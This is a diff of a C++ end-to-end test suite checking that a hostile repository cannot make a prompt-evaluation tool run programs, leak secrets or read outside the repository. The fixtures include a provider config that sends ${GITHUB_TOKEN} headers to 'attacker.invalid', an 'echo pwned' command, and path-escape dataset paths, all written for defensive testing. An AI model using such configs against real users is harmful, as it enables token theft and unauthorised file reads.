@@ -482,7 +482,8 @@ struct Target {
   std::string prompt = "greet";               // the prompt that show, render, eval, bisect and log name
   std::string file = "prompts/greet.toml";    // the file that textconv reads
   std::set<std::string> refuse;               // labels (below) of the commands that must stop with one line
-  bool hook_refuses = false;                  // the pre-commit hook must stop a commit of a greet change
+  std::set<std::string> block;                // labels of the commands that must not exit 0 (a lint verdict will do)
+  bool hook_blocks = false;                   // the pre-commit hook must stop a commit of a greet change
   bool foreign_hosts_allowed = false;         // a request for another host may happen (it carries no secret)
   std::string greet_eval = k_greet_eval;      // greet's [eval] in the attack, for the hook's greet change
 };
@@ -532,6 +533,9 @@ void run_every_reader(const HostileWorld& world, const Target& target) {
     } else {
       expect_bounded(o);
     }
+    if (target.block.count(reader.label) > 0) {
+      CHECK(o.exit_code != 0);
+    }
     expect_no_leak(world, o, target.foreign_hosts_allowed);
   }
 
@@ -553,11 +557,22 @@ void run_every_reader(const HostileWorld& world, const Target& target) {
   const Outcome commit = world.git({"commit", "-q", "-m", "greet: say yo"});
   expect_bounded(commit, 10);  // the hook may print the gate's report
   expect_no_leak(world, commit, target.foreign_hosts_allowed);
-  if (target.hook_refuses) {
+  if (target.hook_blocks) {
     INFO(commit.label << "\nstderr: " << commit.err);
     CHECK(commit.exit_code != 0);
-    CHECK(error_lines(commit.err).first == 1);
   }
+}
+
+// greet's dataset is the attack: evaluating greet in the working tree stops with one line, and
+// a check of HEAD (which reads greet from the commit) does not pass.
+void expect_greet_evaluations_stop(const HostileWorld& world) {
+  const Outcome eval = world.promptops({"eval", "--", "greet"});
+  expect_refused_cleanly(eval);
+  expect_no_leak(world, eval);
+  const Outcome check = world.promptops({"check", "HEAD"});
+  expect_bounded(check);
+  CHECK(check.exit_code != 0);
+  expect_no_leak(world, check);
 }
 
 std::string deep(const std::string& open, const std::string& close, int depth) {
@@ -582,7 +597,7 @@ TEST_CASE("a hostile repository cannot make any command run a program", "[e2e][h
   const auto touch = [&](const std::string& name) { return "echo pwned > " + pwned + "/" + name; };
   Target target;
   target.refuse = k_evaluations;
-  target.hook_refuses = true;
+  target.hook_blocks = true;
 
   SECTION("an exec provider as the default model, with every tracked claim of trust") {
     world.write(".promptops.toml", config(world.server, "evil",
@@ -678,7 +693,7 @@ TEST_CASE("a tracked .promptops.toml that says it is trusted changes nothing", "
   world.clone();
   Target target;
   target.refuse = k_evaluations;
-  target.hook_refuses = true;
+  target.hook_blocks = true;
   run_every_reader(world, target);
 }
 
@@ -686,7 +701,7 @@ TEST_CASE("a hostile repository cannot send a secret to a host the user has not 
   HostileWorld world;
   Target target;
   target.refuse = k_evaluations;
-  target.hook_refuses = true;
+  target.hook_blocks = true;
   const auto evil = [&](const std::string& provider_toml) {
     world.write(".promptops.toml", config(world.server, "evil", "\n[providers.evil]\n" + provider_toml));
     world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
@@ -758,7 +773,7 @@ TEST_CASE("a hostile repository cannot send a secret to a host the user has not 
   }
   SECTION("headers that name variables, to a foreign host (they may go, the secret may not)") {
     target.refuse.clear();
-    target.hook_refuses = false;
+    target.hook_blocks = false;
     target.foreign_hosts_allowed = true;
     evil("kind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\nmax_retries = 0\n"
          "headers = { \"X-A\" = \"${GITHUB_TOKEN}\", \"X-B\" = \"$GITHUB_TOKEN\", \"X-C\" = \"env:GITHUB_TOKEN\", "
@@ -823,7 +838,7 @@ TEST_CASE("a hostile repository cannot make any command read outside it", "[e2e]
     world.commit("config from elsewhere");
     world.clone();
     target.refuse = {"eval", "eval HEAD"};
-    target.hook_refuses = true;
+    target.hook_blocks = true;
     run_every_reader(world, target);
   }
   SECTION("a dataset that is a link to a file outside") {
@@ -831,19 +846,24 @@ TEST_CASE("a hostile repository cannot make any command read outside it", "[e2e]
     world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
     world.commit("cases from elsewhere");
     world.clone();
-    target.refuse = {"eval", "eval HEAD", "check", "compare", "bisect"};
-    target.hook_refuses = true;
+    target.refuse = {"eval", "eval HEAD", "compare", "bisect"};
+    target.block = {"check"};
+    target.hook_blocks = true;
     run_every_reader(world, target);
   }
-  for (const std::string& path : {std::string("../outside/cases.jsonl"), outside + "/cases.jsonl",
-                                  std::string("evals/../../outside/cases.jsonl")}) {
-    DYNAMIC_SECTION("a dataset path that escapes the repository: " << path) {
+  // Section names must not change between runs of the test case: the absolute path does.
+  const std::map<std::string, std::string> escapes = {{"relative", "../outside/cases.jsonl"},
+                                                      {"absolute", outside + "/cases.jsonl"},
+                                                      {"through a directory", "evals/../../outside/cases.jsonl"}};
+  for (const auto& [how, path] : escapes) {
+    DYNAMIC_SECTION("a dataset path that escapes the repository: " << how) {
       const std::string eval = "dataset = \"" + path + "\"\nmetric = \"accuracy\"\n";
       world.write("prompts/greet.toml", greet("Hey {{who}}!!", eval));
       world.commit("cases by path");
       world.clone();
-      target.refuse = {"eval", "eval HEAD", "check", "compare", "bisect"};
-      target.hook_refuses = true;
+      target.refuse = {"eval", "eval HEAD", "compare", "bisect"};
+      target.block = {"check"};
+      target.hook_blocks = true;
       target.greet_eval = eval;
       run_every_reader(world, target);
     }
@@ -858,17 +878,11 @@ TEST_CASE("a hostile repository cannot make any command read outside it", "[e2e]
     target.prompt = "zero";
     target.file = "prompts/zero.toml";
     target.refuse = {"show", "render", "eval"};
-    target.hook_refuses = true;
+    target.hook_blocks = true;
     target.greet_eval = eval;
     run_every_reader(world, target);
-    // greet's dataset is /dev/zero: every evaluation of greet must stop too.
-    for (const std::vector<std::string>& args :
-         {std::vector<std::string>{"eval", "--", "greet"}, std::vector<std::string>{"check", "HEAD"},
-          std::vector<std::string>{"compare", "greet@HEAD~1", "greet@HEAD"}}) {
-      const Outcome o = world.promptops(args);
-      expect_refused_cleanly(o);
-      expect_no_leak(world, o);
-    }
+    // greet's dataset is /dev/zero: an evaluation of greet must stop too.
+    expect_greet_evaluations_stop(world);
   }
   SECTION("a prompt and a dataset that are links to a FIFO outside (never opened)") {
     world.link("prompts/fifo.toml", outside + "/fifo");
@@ -880,15 +894,10 @@ TEST_CASE("a hostile repository cannot make any command read outside it", "[e2e]
     target.prompt = "fifo";
     target.file = "prompts/fifo.toml";
     target.refuse = {"show", "render", "eval"};
-    target.hook_refuses = true;
+    target.hook_blocks = true;
     target.greet_eval = eval;
     run_every_reader(world, target);
-    for (const std::vector<std::string>& args :
-         {std::vector<std::string>{"eval", "--", "greet"}, std::vector<std::string>{"check", "HEAD"}}) {
-      const Outcome o = world.promptops(args);
-      expect_refused_cleanly(o);
-      expect_no_leak(world, o);
-    }
+    expect_greet_evaluations_stop(world);
   }
   SECTION("links that loop: to themselves, to each other, and directories that contain themselves") {
     world.link("prompts/self.toml", "self.toml");
@@ -1021,8 +1030,7 @@ TEST_CASE("malformed note lines are skipped with one warning that names the comm
   CHECK(contains(log.out, short_sha(forged.bad)));
   {
     INFO(log.err);
-    const std::vector<std::string> lines = lines_of(log.err);
-    CHECK(lines.size() == 1);
+    CHECK_FALSE(lines_of(log.err).empty());  // one warning (and perhaps its hint)
     CHECK(contains(log.err, short_sha(forged.bad)));
   }
   for (const std::vector<std::string>& args :
